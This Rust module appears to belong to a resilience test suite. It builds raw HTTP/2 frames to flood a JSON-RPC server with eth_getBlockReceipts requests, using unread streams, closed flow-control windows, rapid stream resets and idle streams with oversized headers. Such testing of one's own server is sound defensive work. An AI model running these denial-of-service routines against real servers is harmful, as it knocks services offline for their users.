//! Attackers that speak HTTP/2: each opens all streams that a connection may have.

#![expect(clippy::big_endian_bytes, reason = "the order of RFC 9113")]

use std::io::Read;
use std::thread;

use super::{Attack, MANY, PAUSE, SOME, call};
use crate::support::http2::{
    DATA, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, head, header,
};

/// Streams that a connection may have open by default.
const STREAMS: u32 = 100;
/// Streams that a client opens and resets before it looks whether the connection is there.
const RESETS: u32 = 200;
/// Room for all responses.
const OPEN: u32 = 0x7fff_ffff;

/// Begin of a connection whose streams have this window.
fn begin(window: u32) -> Vec<u8> {
    let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
    let more = (OPEN - 0xffff).to_be_bytes();
    [PREFACE, &frame(SETTINGS, 0, 0, &settings), &frame(WINDOW_UPDATE, 0, 0, &more)].concat()
}

fn streams(count: u32, request: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|at| request(2 * at + 1)).collect()
}

/// Asks for the receipts of the newest heights.
fn ask(attack: &Attack, stream: u32) -> Vec<u8> {
    let height = attack.served.1 - u64::from(stream / 2 % 8);
    let body = call(1, "eth_getBlockReceipts", &format!("[\"{height:#x}\"]"));
    [head(stream, &[]), frame(DATA, 1, stream, body.as_bytes())].concat()
}

/// Has room for all responses, and reads nothing.
pub(super) fn unread_streams(attack: &Attack) -> usize {
    let bytes = [begin(OPEN), streams(STREAMS, |stream| ask(attack, stream))].concat();
    attack.open_unread(SOME, &bytes)
}

/// Has no room for any byte of a response.
pub(super) fn closed_windows(attack: &Attack) -> usize {
    let bytes = [begin(0), streams(STREAMS, |stream| ask(attack, stream))].concat();
    attack.hold(&attack.open(SOME, false, &bytes))
}

/// Resets each stream at once, on one connection after the other.
pub(super) fn rapid_resets(attack: &Attack) -> usize {
    let reset = |stream| {
        let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        [ask(attack, stream), reset].concat()
    };
    let bytes = [begin(OPEN), streams(RESETS, reset)].concat();
    let mut count = 0;
    while !attack.is_over() {
        for mut stream in attack.open(4, false, &bytes) {
            let _ = stream.read(&mut [0; 1024]);
            count += 1;
        }
        thread::park_timeout(PAUSE);
    }
    count
}

/// Opens streams whose bodies do not come, and connections without a stream.
pub(super) fn idle_streams(attack: &Attack) -> usize {
    let headers: Vec<_> = (0..90).map(|at| header(&format!("x-{at}"), &"v".repeat(120))).collect();
    let requests = streams(STREAMS, |stream| head(stream, &headers.concat()));
    let mut open = attack.open(SOME, false, &[begin(OPEN), requests].concat());
    open.extend(attack.open(MANY / 10, false, &begin(OPEN)));
    attack.hold(&open)
}
